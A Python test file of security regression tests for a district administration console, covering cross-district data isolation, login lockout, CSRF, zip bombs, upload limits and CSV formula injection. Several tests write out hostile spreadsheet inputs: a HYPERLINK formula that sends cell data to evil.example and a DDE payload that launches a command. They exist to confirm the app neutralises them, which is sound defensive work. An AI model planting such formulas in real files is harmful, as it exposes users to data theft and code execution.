"""What an attacker tries against the console (a security review of issue 14): another
district's uploads, formulas in the downloadable report, a street's admin publishing for the
whole district, oversized bodies outside the upload form."""

from __future__ import annotations

import csv
import io
import uuid
from datetime import date
from pathlib import Path

from sqlalchemy import select

from district import models
from district.app import BODY_LIMIT, UPLOAD_BODY_LIMIT, body_limit
from district.imports.errors import Rejection
from district.imports.files import FEE_HEADER, PERSON_HEADER
from district.imports.outcome import write_report
from district.security import verify_password
from tests.console.conftest import Browser, ConsoleDistrict
from tests.console.test_data import csv_bytes, person_rows, settled, upload
from tests.district.harness import CHANGNING_STREET, MINHANG_STREET, PASSWORD

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点此")'


def test_another_districts_upload_is_neither_listed_nor_found(
        console_district: ConsoleDistrict, admin: Browser) -> None:
    import_id = upload(admin, "persons", "人员名单.csv", csv_bytes(PERSON_HEADER, person_rows(1)))
    settled(admin, import_id)
    other = console_district.browser().sign_in(console_district.user(None, "admin", "minhang"))
    assert import_id not in other.get("/console/data").text
    assert other.get(f"/console/data/{import_id}").status_code == 404
    assert other.get(f"/console/data/{import_id}/report.csv").status_code == 404
    other.get("/console/data")
    for action in ("import", "discard"):
        assert other.post(f"/console/data/{import_id}/{action}").status_code == 404
    assert import_id in admin.get("/console/data").text  # its own district still sees it


def test_the_downloaded_report_runs_no_formula(admin: Browser) -> None:
    rows = person_rows(1)
    rows[0][0] = FORMULA  # the ID number: rejected, and echoed in the report
    import_id = upload(admin, "persons", "人员名单.csv", csv_bytes(PERSON_HEADER, rows))
    settled(admin, import_id)
    report = admin.get(f"/console/data/{import_id}/report.csv")
    assert report.status_code == 200
    cells = [c for line in csv.reader(io.StringIO(report.content.decode("utf-8-sig")))
             for c in line]
    assert "'" + FORMULA in cells
    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells)


def test_the_command_lines_report_runs_no_formula(tmp_path) -> None:  # type: ignore[no-untyped-def]
    from district.imports.outcome import spreadsheet_text

    path = tmp_path / "r.csv"
    write_report(path, [Rejection(2, "姓名", "原因", "+1+cmd|' /C calc'!A0"),
                        Rejection(3, "姓名", "原因", "@SUM(A1)"),
                        Rejection(4, "姓名", "原因", "甲")])
    values = [line[3] for line in csv.reader(path.open(encoding="utf-8-sig"))][1:]
    assert values == ["'+1+cmd|' /C calc'!A0", "'@SUM(A1)", "甲"]
    assert spreadsheet_text(-5) == -5 and spreadsheet_text("-5") == "'-5"


def test_a_streets_admin_cannot_publish_a_policy_value(console_district: ConsoleDistrict
                                                      ) -> None:
    name = console_district.add_user("district_admin", CHANGNING_STREET,
                                     display_name="街镇管理员")
    street = console_district.browser().sign_in(name)
    street.get("/console/policy")
    form = {"key": "assistance:category.dibao.outpatient_rate", "value": "0.95",
            "effective_from": "2031-01-01", "source": "试", "assumption": "", "confirm": "yes"}
    for step in ("preview", "publish"):
        response = street.post(f"/console/policy/{step}", form)
        assert response.status_code == 403, response.text
        assert "街镇账号不能发布政策参数" in response.text
    with console_district.db.read() as session:
        assert session.get(models.ParameterVersion, (form["key"], date(2031, 1, 1))) is None


def test_only_the_upload_form_may_send_a_large_body() -> None:
    assert body_limit("/console/data/upload") == UPLOAD_BODY_LIMIT
    assert body_limit(f"/console/data/{uuid.uuid4()}/import") == BODY_LIMIT
    assert body_limit("/console/data/anything-else") == BODY_LIMIT


def test_an_unknown_name_locks_like_a_real_one(console_district: ConsoleDistrict,
                                               browser: Browser) -> None:
    """The lock-out message must not tell which names are users: a name that is no user locks
    after as many failures as one that is."""
    real = console_district.add_user("district_reviewer", display_name="区审核人")
    unknown = f"t{uuid.uuid4().hex[:8]}.nobody"
    answers: dict[str, list[str]] = {real: [], unknown: []}
    for name, said in answers.items():
        for _ in range(6):
            response = browser.post("/console/login", {"username": name, "password": "nope"},
                                    csrf=False)
            assert response.status_code == 401
            said.append("locked" if "密码错误次数过多" in response.text else "wrong")
    assert answers[real] == answers[unknown] == ["wrong"] * 5 + ["locked"]


def test_a_signed_in_session_cannot_guess_the_current_password_past_the_lock(
        console_district: ConsoleDistrict) -> None:
    """Someone at a PC or a browser left signed in must not try current passwords forever to
    take the account over: wrong ones count as failed sign-ins and lock as they do."""
    from tests.console.test_counter_password import ONE_TIME, _reset_clerk
    from tests.console.test_people import ApiCounter

    name = _reset_clerk(console_district)
    counter = ApiCounter(console_district, CHANGNING_STREET)
    counter.login(name, ONE_TIME)
    codes = [counter.change_password(f"guess-{i}-xyz", "a-good-new-one-1").json()["code"]
             for i in range(6)]
    assert codes == ["current_password_wrong"] * 5 + ["account_locked"]
    right = counter.change_password(ONE_TIME, "a-good-new-one-1")
    assert right.status_code == 401 and right.json()["code"] == "account_locked"

    real = console_district.add_user("district_reviewer", display_name="区审核人")
    browser = console_district.browser().sign_in(real)
    for i in range(6):
        browser.get("/console/password")
        browser.post("/console/password", {"current": f"guess-{i}-xyz",
                                           "new": "a-good-new-one-1", "again": "a-good-new-one-1"})
    browser.get("/console/password")
    page = browser.post("/console/password", {"current": PASSWORD, "new": "a-good-new-one-1",
                                              "again": "a-good-new-one-1"})
    assert page.status_code == 422 and "密码错误次数过多" in page.text
    with console_district.db.read() as session:
        kept = session.scalars(select(models.User).where(models.User.username == real)).one()
        assert verify_password(PASSWORD, kept.password_hash)


def test_an_xlsx_that_unpacks_too_large_is_refused_unread(tmp_path, monkeypatch  # type: ignore[no-untyped-def]
                                                          ) -> None:
    """A zip bomb: a small .xlsx whose parts inflate past the bound is refused before openpyxl
    reads it (the bounds are lowered here so the test file stays small)."""
    from district.imports import cells
    from district.imports.errors import FileRejected
    from tests.console.test_data import xlsx_bytes

    path = tmp_path / "bomb.xlsx"
    path.write_bytes(xlsx_bytes(PERSON_HEADER, person_rows(3)))
    assert cells.open_table(path).header  # within the bounds: read
    monkeypatch.setattr(cells, "MAX_XLSX_UNPACKED", 1000)
    try:
        cells.open_table(path)
    except FileRejected as exc:
        assert "解压后过大" in exc.message
    else:
        raise AssertionError("the oversized workbook was read")


def test_another_site_cannot_sign_a_browser_in(browser: Browser,
                                              console_district: ConsoleDistrict) -> None:
    """Login CSRF: a page elsewhere posting the attacker's own name and password would leave
    the victim working in the attacker's account."""
    response = browser.client.post(
        "/console/login", data={"username": console_district.user(None, "admin"),
                                "password": PASSWORD},
        headers={"Origin": "https://evil.example"})
    assert response.status_code == 403
    assert "set-cookie" not in response.headers


def _minhang_person(district: ConsoleDistrict) -> tuple[str, str]:
    with district.db.read() as session:
        found = session.execute(select(models.Person.id_number, models.Person.name)
                                .where(models.Person.street_code == MINHANG_STREET)
                                .order_by(models.Person.id)).first()
    assert found is not None
    return found[0], found[1]


def test_one_districts_admin_cannot_import_another_districts_people_or_fees(
        console_district: ConsoleDistrict, admin: Browser) -> None:
    """The importers serve the whole server (the command line); an upload in the console
    touches only its uploader's district: no person put at, or taken from, another
    district's street, no fee row of another district's person."""
    from tests.console.test_data import fee_rows

    number, name = _minhang_person(console_district)
    placed = person_rows(1)
    placed[0][PERSON_HEADER.index("街镇代码")] = MINHANG_STREET
    taken = person_rows(1)
    taken[0][0], taken[0][1] = number, name  # a Minhang person, moved to Changning
    fees = fee_rows(console_district, 1)
    fees[0][FEE_HEADER.index("身份证号码")] = number
    fees[0][FEE_HEADER.index("姓名")] = name
    before = _counts(console_district)
    for kind, header, rows in (("persons", PERSON_HEADER, placed),
                               ("persons", PERSON_HEADER, taken), ("fees", FEE_HEADER, fees)):
        import_id = upload(admin, kind, "f.csv", csv_bytes(header, rows))
        page = settled(admin, import_id)
        assert 'id="preview-clean"' not in page, (kind, rows)
        assert admin.post(f"/console/data/{import_id}/import").status_code == 409
    assert _counts(console_district) == before
    with console_district.db.read() as session:
        street = session.scalar(select(models.Person.street_code)
                                .where(models.Person.id_number == number))
    assert street == MINHANG_STREET


def _counts(district: ConsoleDistrict) -> tuple[int, int]:
    with district.db.read() as session:
        return (len(session.scalars(select(models.FeeRow.id)).all()),
                len(session.scalars(select(models.Person.id)).all()))


def test_an_upload_without_a_session_is_refused_before_its_body_is_read(
        tmp_path: Path) -> None:
    """The upload form takes up to 200 MB: an anonymous request announcing a large body is
    answered at once, on a real server, without the server waiting for (or holding) the body."""
    import socket

    from tests.district.harness import ServerProcess, seed

    url = f"sqlite:///{tmp_path / 'district.sqlite'}"
    seed(url, persons=5, streets=[CHANGNING_STREET], codes=1)
    server = ServerProcess(url, tmp_path / "server.log")
    server.start()
    try:
        with socket.create_connection(("127.0.0.1", server.port), timeout=10) as conn:
            conn.sendall(b"POST /console/data/upload HTTP/1.1\r\nHost: 127.0.0.1\r\n"
                         b"Content-Type: multipart/form-data; boundary=x\r\n"
                         b"Content-Length: 150000000\r\n\r\n--x\r\n")
            conn.settimeout(10)  # the body's other 150 MB never come: no answer, no pass
            received = b""
            while chunk := conn.recv(65536):  # the server closes after its answer
                received += chunk
        answer = received.decode("utf-8", "replace")
        assert answer.startswith("HTTP/1.1 401"), answer[:200]
        assert "请先登录区管理台，再上传文件" in answer
    finally:
        server.stop()
